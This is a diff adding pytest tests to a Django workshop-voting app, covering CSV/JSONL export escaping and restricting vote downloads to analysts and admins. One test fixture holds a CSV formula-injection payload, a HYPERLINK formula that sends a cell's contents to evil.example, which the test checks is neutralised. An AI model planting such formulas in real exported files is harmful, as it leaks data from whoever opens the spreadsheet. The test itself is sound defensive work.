@@ -4,7 +4,9 @@ An outsider (member of another organisation only) gets no row of the first one b
 """
 
 import base64
+import csv
 import io
+import json
 import zipfile
 
 import pyarrow.parquet as pq
@@ -17,7 +19,7 @@ from tests.conftest import PASSWORD, make_user
 from tests.live_fixtures import phone
 from workshop import dataset, exports, leaderboard, simulation
 from workshop.live import Ballot, cast_vote
-from workshop.models import HandCount, Membership, Role, Round, Vote
+from workshop.models import HandCount, Membership, Organisation, Role, Round, Vote
 
 
 @pytest.fixture(autouse=True)
@@ -274,3 +276,104 @@ def test_simulate_workshop_plays_the_duels_through_the_state_machine(live_worksh
     assert votes.exclude(reasons={}).exists()
     live_workshop.refresh_from_db()
     assert live_workshop.phase == "ended"
+
+
+def test_downloads_and_archives_in_csv_or_jsonl_defuse_a_formula_comment(
+    client, org_analyst, played
+):
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"Cliquez")'
+    Organisation.objects.filter(pk=played.organisation_id).update(export_free_text=True)
+    Vote.objects.update(comment_a=formula)
+    login(client, org_analyst)
+    for table, fmt, column in [
+        ("votes", "csv", "conv_comments_a"),
+        ("reactions", "csv", "comment"),
+        ("votes", "jsonl", "conv_comments_a"),
+    ]:
+        response = client.get(reverse("analytics_download", args=[table, fmt]))
+        text = b"".join(response.streaming_content).decode()
+        rows = (
+            csv.DictReader(io.StringIO(text))
+            if fmt == "csv"
+            else [json.loads(line) for line in text.splitlines()]
+        )
+        assert {row[column] for row in rows} == {"'" + formula}, (table, fmt)
+    export_id = exports.request_export(org_analyst, dataset.selection_for(org_analyst), "csv")
+    exports.run(org_analyst.pk, export_id)
+    response = client.get(reverse("analytics_archive", args=[export_id]))
+    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
+        rows = list(csv.DictReader(io.StringIO(archive.read("votes.csv").decode())))
+    assert {row["conv_comments_a"] for row in rows} == {"'" + formula}
+
+
+# The votes are the analysts' and admins': a facilitator gets none of them ----------------
+
+
+def test_a_facilitator_gets_404_for_the_votes_and_every_download(client, played):
+    facilitator = played.facilitator_user
+    login(client, facilitator)
+    assert client.get(reverse("analytics")).status_code == 404
+    for table in dataset.TABLES:
+        for fmt in ["parquet", "jsonl", "csv"]:
+            url = reverse("analytics_download", args=[table, fmt])
+            assert client.get(url).status_code == 404, (table, fmt)
+            assert client.get(url, {"workshop": played.pk}).status_code == 404
+    response = client.post(reverse("analytics_request_archive"), {"format": "csv"})
+    assert response.status_code == 404
+    # An archive made for them (when they were an analyst, say) is not theirs to fetch now.
+    selection = dataset.Selection(organisation_ids=(played.organisation_id,))
+    export_id = exports.request_export(facilitator, selection, "csv")
+    exports.run(facilitator.pk, export_id)
+    assert client.get(reverse("analytics_archive", args=[export_id])).status_code == 404
+    # The leaderboard (rankings, no comment) stays theirs, without a link to the votes.
+    board = client.get(reverse("leaderboard"))
+    assert board.status_code == 200
+    assert f'href="{reverse("analytics")}"' not in board.content.decode()
+
+
+def test_a_facilitator_s_script_gets_404_with_basic_credentials(client, played):
+    credentials = base64.b64encode(b"anim:pw-anim-123456").decode()
+    url = reverse("analytics_download", args=["votes", "csv"])
+    assert client.get(url, HTTP_AUTHORIZATION=f"Basic {credentials}").status_code == 404
+
+
+def test_an_analyst_and_an_admin_of_the_organisation_still_download(client, org_analyst, played):
+    admin = make_user("directrice")
+    Membership.objects.create(user=admin, organisation=played.organisation, role=Role.ADMIN)
+    for user in (org_analyst, admin):
+        login(client, user)
+        assert client.get(reverse("analytics")).status_code == 200
+        response = client.get(reverse("analytics_download", args=["votes", "parquet"]))
+        assert len(parquet_rows(response)) == 3
+        board = client.get(reverse("leaderboard")).content.decode()
+        assert f'href="{reverse("analytics")}"' in board
+
+
+def export_action(client, workshop):
+    return client.post(
+        reverse("admin:workshop_workshop_changelist"),
+        {"action": "export_votes", "_selected_action": [workshop.pk]},
+    )
+
+
+def test_the_admin_action_is_not_offered_to_a_facilitator_and_refused_if_posted(client, played):
+    login(client, played.facilitator_user)
+    changelist = client.get(reverse("admin:workshop_workshop_changelist"))
+    assert changelist.status_code == 200
+    assert 'value="export_votes"' not in changelist.content.decode()
+    response = export_action(client, played)
+    assert response.get("Content-Type") != "application/zip"
+    assert not hasattr(response, "streaming_content")
+
+
+def test_the_admin_action_gives_an_analyst_and_an_admin_a_zip(client, org_analyst, played):
+    admin = make_user("directrice")
+    Membership.objects.create(user=admin, organisation=played.organisation, role=Role.ADMIN)
+    for user in (org_analyst, admin):
+        login(client, user)
+        changelist = client.get(reverse("admin:workshop_workshop_changelist"))
+        assert 'value="export_votes"' in changelist.content.decode()
+        response = export_action(client, played)
+        assert response.status_code == 200
+        with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
+            assert pq.read_table(io.BytesIO(archive.read("votes.parquet"))).num_rows == 3
